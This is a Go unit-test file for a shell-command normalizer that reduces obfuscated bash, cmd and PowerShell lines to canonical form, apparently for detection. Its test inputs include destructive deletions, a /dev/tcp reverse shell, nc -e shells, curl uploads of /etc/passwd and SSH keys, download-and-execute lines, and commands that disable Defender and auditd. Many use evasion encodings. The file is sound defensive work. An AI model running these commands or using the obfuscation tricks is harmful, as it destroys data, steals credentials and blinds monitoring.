package shell

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
)

// psEncode encodes a PowerShell command the way -EncodedCommand expects it.
func psEncode(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 0, 2*len(u))
	for _, c := range u {
		b = append(b, byte(c), byte(c>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// TestNormalize checks that every expected canonical string is among the
// results (Normalize may return more: nested commands, dialect variants).
func TestNormalize(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want []string
	}{
		{"plain", "rm -rf /", []string{"rm -f -r /"}},
		{"flag order fr", "rm -fr /", []string{"rm -f -r /"}},
		{"flags apart", "rm -r -f /", []string{"rm -f -r /"}},
		{"long flags", "rm --recursive --force /", []string{"rm -f -r /"}},
		{"rm -R is -r", "rm -R -f /", []string{"rm -f -r /"}},
		{"flags after operands", "rm / -rf", []string{"rm -f -r /"}},
		{"double dash ends flags", "rm -- -rf", []string{"rm -rf"}},
		{"empty quotes", "r''m -rf /", []string{"rm -f -r /"}},
		{"double quotes", `"rm" "-rf" "/"`, []string{"rm -f -r /"}},
		{"backslash", `r\m -r\f /`, []string{"rm -f -r /"}},
		{"path name", "/bin/rm -fr ~", []string{"rm -f -r ~"}},
		{"upper case name", "RM -rf /tmp/x", []string{"rm -f -r /tmp/x"}},
		{"variable built in two steps", "t=cu; t=${t}rl; $t -d @/etc/passwd https://x.example", []string{"curl -d @/etc/passwd https://x.example"}},
		{"variable set twice", "c=ls; $c /tmp; c=rm; $c -rf ~", []string{"ls /tmp", "rm -f -r ~"}},
		{"loop over several words", `a=flo; b=od-al; c=ert; for s in "${a}${b}${c}-dispatch" siren-ctld; do sudo systemctl mask "$s"; done`, []string{"systemctl mask flood-alert-dispatch siren-ctld"}},
		{"loop over one word", "d=$HOME/.s; d=${d}sh; for k in $d/id_*; do curl -F \"f=@$k\" https://x.example/up; done", []string{"curl -F f=@~/.ssh/id_* https://x.example/up"}},
		{"single-dash long option", "vault kv get -field=admin_token secret/x", []string{"vault -field admin_token kv get secret/x"}},
		{"single-dash value letter keeps getopt", "ssh -oProxyCommand=nc host", []string{"ssh -o ProxyCommand=nc host"}},
		{"IFS braces", "rm${IFS}-rf${IFS}/", []string{"rm -f -r /"}},
		{"IFS dollar 9", "cat$IFS$9/etc/passwd", []string{"cat /etc/passwd"}},
		{"tabs and spaces", "rm\t\t-rf    /", []string{"rm -f -r /"}},
		{"HOME", "rm -rf $HOME", []string{"rm -f -r ~"}},
		{"HOME braces quoted", `rm -rf "${HOME}/"`, []string{"rm -f -r ~/"}},
		{"ANSI-C quoting", `$'\x72\x6d' -rf /`, []string{"rm -f -r /"}},
		{"brace expansion", "{rm,-rf,/}", []string{"rm -f -r /"}},
		{"at sign trick", "r$@m -rf /", []string{"rm -f -r /"}},
		{"sudo both", "sudo rm -rf /", []string{"rm -f -r /", "sudo rm -f -r /"}},
		{"sudo with flags", "sudo -u root -E rm -rf /", []string{"rm -f -r /", "sudo -u root -E rm -f -r /"}},
		{"sudo shell", "sudo -s", []string{"sudo -s"}},
		{"env", "env -i X=1 PATH=/bin rm -rf /", []string{"rm -f -r /"}},
		{"busybox", "busybox rm -rf /", []string{"rm -f -r /"}},
		{"stacked wrappers", "nohup nice -n 10 timeout -s KILL 5 command rm -rf /", []string{"rm -f -r /"}},
		{"xargs", "find . | xargs -0 -n 1 rm -rf", []string{"find . | rm -f -r"}},
		{"sh -c", `sh -c "rm -rf /"`, []string{"sh -c rm -rf /", "rm -f -r /"}},
		{"bash -xc", `bash -xc 'rm -rf ~'`, []string{"rm -f -r ~"}},
		{"env sh -c", `env X=1 sh -c "rm -rf /"`, []string{"rm -f -r /"}},
		{"nested three deep", `sh -c "bash -c \"eval 'rm -rf /'\""`, []string{"rm -f -r /"}},
		{"command substitution", "echo $(rm -rf /)", []string{"echo $(rm -f -r /)", "rm -f -r /"}},
		{"backticks", "echo `id`", []string{"echo $(id)", "id"}},
		{"process substitution", "bash <(curl -s http://x)", []string{"bash <(curl -s http://x)", "curl -s http://x"}},
		{"separators", "ls; pwd && id || whoami & date\nuname", []string{"ls", "pwd", "id", "whoami", "date", "uname"}},
		{"pipeline", "curl -s https://x.sh | sudo bash", []string{"curl -s https://x.sh | bash", "curl -s https://x.sh | sudo bash"}},
		{"redirections", "cmd >out 2>&1 < in >> log", []string{"cmd > out 2>&1 < in >> log"}},
		{"reverse shell redirect", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", []string{"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"}},
		{"curl long flags", "curl --data @f --upload-file x --form a=@b https://x", []string{"curl -F a=@b -T x -d @f https://x"}},
		{"curl cluster with value", "curl -sSLo out.sh https://x", []string{"curl -L -S -o out.sh -s https://x"}},
		{"wget output", "wget -qO- http://x", []string{"wget -O - -q http://x"}},
		{"wget long output", "wget --output-document=- http://x", []string{"wget -O - http://x"}},
		{"nc exec", "nc --exec /bin/sh 1.2.3.4 4444", []string{"nc -e /bin/sh 1.2.3.4 4444"}},
		{"chmod recursive", "chmod --recursive 777 /etc", []string{"chmod -R 777 /etc"}},
		{"unknown long flag", "npm install --Save-Dev x", []string{"npm --save-dev install x"}},
		{"find keeps order", "find / -name '*.log' -delete", []string{"find / -name *.log -delete"}},
		{"find exec", `find / -exec rm -rf {} \;`, []string{"rm -f -r {}"}},
		{"assignment prefix", "FOO=1 BAR=2 make test", []string{"make test"}},
		{"only assignment", "HISTFILE=/dev/null", []string{"HISTFILE=/dev/null"}},
		{"heredoc to shell", "bash <<EOF\nrm -rf /\nEOF\necho done", []string{"bash << EOF", "rm -f -r /", "echo done"}},
		{"echo piped to shell", "echo 'rm -rf /' | sh", []string{"rm -f -r /"}},
		{"comment", "ls # rm -rf /", []string{"ls"}},
		{"cmd del", `del /s /q C:\Windows`, []string{`del /q /s C:\Windows`}},
		{"cmd glued flags", `cmd/c del/s/q C:\Windows`, []string{`del /q /s C:\Windows`}},
		{"cmd caret", `d^el /s /q C:\x`, []string{`del /q /s C:\x`}},
		{"cmd exe", `cmd.exe /c "rd /s /q C:\"`, []string{`rd /q /s C:\`}},
		{"cmd userprofile", `rd /s /q %USERPROFILE%`, []string{`rd /q /s ~`}},
		{"format", "format c:", []string{"format c:"}},
		{"ps remove-item", `Remove-Item -Recurse -Force C:\`, []string{`remove-item -force -recurse C:\`}},
		{"ps aliases and abbreviations", `ri -r -fo $env:USERPROFILE`, []string{"remove-item -force -recurse ~"}},
		{"ps rm alias", `powershell -c "rm -r -fo C:\Users\bob -ErrorAction SilentlyContinue"`, []string{`remove-item -erroraction -force -recurse C:\Users\bob SilentlyContinue`}},
		{"ps backtick", "i`e`x (i`wr http://x)", []string{"invoke-expression (invoke-webrequest http://x)"}},
		{"ps iex iwr", "iex (iwr http://x/a.ps1)", []string{"invoke-expression (invoke-webrequest http://x/a.ps1)", "invoke-webrequest http://x/a.ps1"}},
		{"ps iex no space", `IEX(New-Object Net.WebClient).DownloadString('http://x')`, []string{"invoke-expression (new-object Net.WebClient).DownloadString(http://x)"}},
		{"ps pipe to iex", "iwr http://x | iex", []string{"invoke-webrequest http://x | invoke-expression"}},
		{"ps switch value", "Set-MpPreference -DisableRealtimeMonitoring $true", []string{"set-mppreference -disablerealtimemonitoring $true"}},
		{"powershell -c", `powershell -NoProfile -c "Remove-Item -Recurse C:\Windows"`,
			[]string{`powershell -noprofile -command Remove-Item -Recurse C:\Windows`, `remove-item -recurse C:\Windows`}},
		{"powershell -enc", "powershell -enc " + psEncode("Remove-Item -Recurse -Force C:\\"),
			[]string{"powershell -encodedcommand " + psEncode("Remove-Item -Recurse -Force C:\\"), `remove-item -force -recurse C:\`}},
		{"powershell.exe path", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -EncodedCommand ` + psEncode("iex (iwr http://x)"),
			[]string{"invoke-expression (invoke-webrequest http://x)"}},
		{"cmd to powershell", `cmd /c powershell -c "rm -r -fo C:\"`, []string{`remove-item -force -recurse C:\`}},
		// the line builds its command from parts it sets itself (expand.go)
		{"variables", `a=r;b=m;c=' -rf';d=~; eval "$a$b$c $d/*"`, []string{"rm -f -r ~/*"}},
		{"variables, braces and export", `export T=/; R="rm -rf"; ${R} ${T}`, []string{"rm -f -r /"}},
		{"alias", `shopt -s expand_aliases; alias tidy='/bin/rm -rf'; tidy ~/.ssh`, []string{"rm -f -r ~/.ssh"}},
		{"strings joined with plus", `powershell -c "$c='Inv'+'oke-Exp'+'ression'; & $c (iwr http://x)"`, []string{"invoke-expression (invoke-webrequest http://x)"}},
		{"list joined, Python", `python3 -c "import os; os.system(''.join(['r','m -r','f /']))"`, []string{"python3 -c import os; os.system('rm -rf /')"}},
		{"list joined, JavaScript", `node -e "require('child_process').execSync(['r','m -r','f ~'].join(''))"`, []string{"node -e require('child_process').execSync('rm -rf ~')"}},
		{"variables joined with plus", `powershell -c "$p1='Set-MpPref'; $p2='erence -DisableRealt'; $p3='imeMonitoring $true'; iex ($p1+$p2+$p3)"`,
			[]string{"set-mppreference -disablerealtimemonitoring $true"}},
		{"a dollar in single quotes is a dollar", `v='$HOME/x'; a='rm -rf'; $a ~`, []string{"rm -f -r ~"}},
		{"array elements", `S=(gsu til); ${S[0]}${S[1]} -m rm -r gs://b/**`, []string{"gsutil -m -r rm gs://b/**"}},
		{"array, quoted words, every element", `declare -a A=("rm" '-rf'); ${A[@]} ~`, []string{"rm -f -r ~"}},
		{"printf joins its words", `B="gs://x-$(printf '%s' b a c k u p)"; gsutil rm -r $B`, []string{"gsutil -r rm gs://x-backup"}},
		{"echo through rev into sh", `echo '/ fr- mr' | rev | sh`, []string{"rm -f -r /"}},
		{"echo through rot13 into sh", `echo 'ez -es /' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash`, []string{"rm -f -r /"}},
		{"echo through base64 read back by eval", `eval "$(echo cm0gLXJmIC8= | base64 -d)"`, []string{"rm -f -r /"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := Normalize(tc.in)
			for _, w := range tc.want {
				if !slices.Contains(got, w) {
					t.Errorf("Normalize(%q) = %q, missing %q", tc.in, got, w)
				}
			}
		})
	}
}

// TestNormalizeExact pins the whole result for simple lines: no noise.
func TestNormalizeExact(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{"rm -rf ./build", []string{"rm -f -r ./build"}},
		{"git status && go test ./...", []string{"git status", "go test ./..."}},
		{"ls -la | grep x", []string{"ls -a -l | grep x"}},
		{"", []string{}},
		{"   \n ; ;; && ", []string{}},
		// a variable set and used is only expanded once: no duplicates
		{"export FOO=bar && make test", []string{"export FOO=bar", "make test"}},
		{"V=1.2; git tag v$V", []string{"V=1.2", "git tag v$V", "git tag v1.2"}},
		// ssh runs its command through a shell on the host
		{"ssh -p 22 -i ~/.ssh/k ops@prod-3 'sudo systemctl stop auditd && rm -rf /var/log/audit'",
			[]string{"ssh -i ~/.ssh/k -p 22 ops@prod-3 sudo systemctl stop auditd && rm -rf /var/log/audit", "systemctl stop auditd", "sudo systemctl stop auditd", "rm -f -r /var/log/audit"}},
		{"ssh web01", []string{"ssh web01"}},
		// ansible's ad-hoc -a command runs on every host of the pattern
		{`ansible -i inv/build.ini build_fleet -b -m shell -a "systemctl stop x-edr; rm -rf /var/log/audit"`,
			[]string{"ansible -a -b -i -m inv/build.ini build_fleet shell systemctl stop x-edr; rm -rf /var/log/audit", "systemctl stop x-edr", "rm -f -r /var/log/audit"}},
		{"ansible all -m ping", []string{"ansible -m all ping"}},
	}
	for _, tc := range tests {
		if got := Normalize(tc.in); !slices.Equal(got, tc.want) {
			t.Errorf("Normalize(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestNormalizeBounded(t *testing.T) {
	// Deep nesting stops at maxDepth instead of recursing without end.
	_ = Normalize(strings.Repeat("eval sh -c ", 2000) + "rm -rf /")
	_ = Normalize(strings.Repeat("powershell -c cmd /c ", 2000))
	// Substitutions nested far deeper than maxDepth.
	_ = Normalize(strings.Repeat("$(", 5000) + "rm -rf /" + strings.Repeat(")", 5000))
	_ = Normalize(strings.Repeat("`echo ", 3000))
	// Inputs built to multiply work: the output stays proportional to the input.
	for _, unit := range []string{"$(", `sh -c "`, "eval ", "echo x | sh -c '", "powershell -c ", "bash <<< ",
		"`", "((((", "cmd /c ", "watch ", "a$IFS", `'"`, "{a,b}", "sudo env ", "find / -exec sh -c "} {
		in := strings.Repeat(unit, maxInput/len(unit)+1)
		total := 0
		for _, s := range Normalize(in) {
			total += len(s)
		}
		if limit := 16 * maxInput; total > limit {
			t.Errorf("%q repeated: %d bytes of output", unit, total)
		}
	}
	// Oversized input is cut, not rejected.
	big := strings.Repeat("echo hello world; ", 10000)
	if got := Normalize(big); len(got) == 0 {
		t.Error("no output for a large script")
	}
}
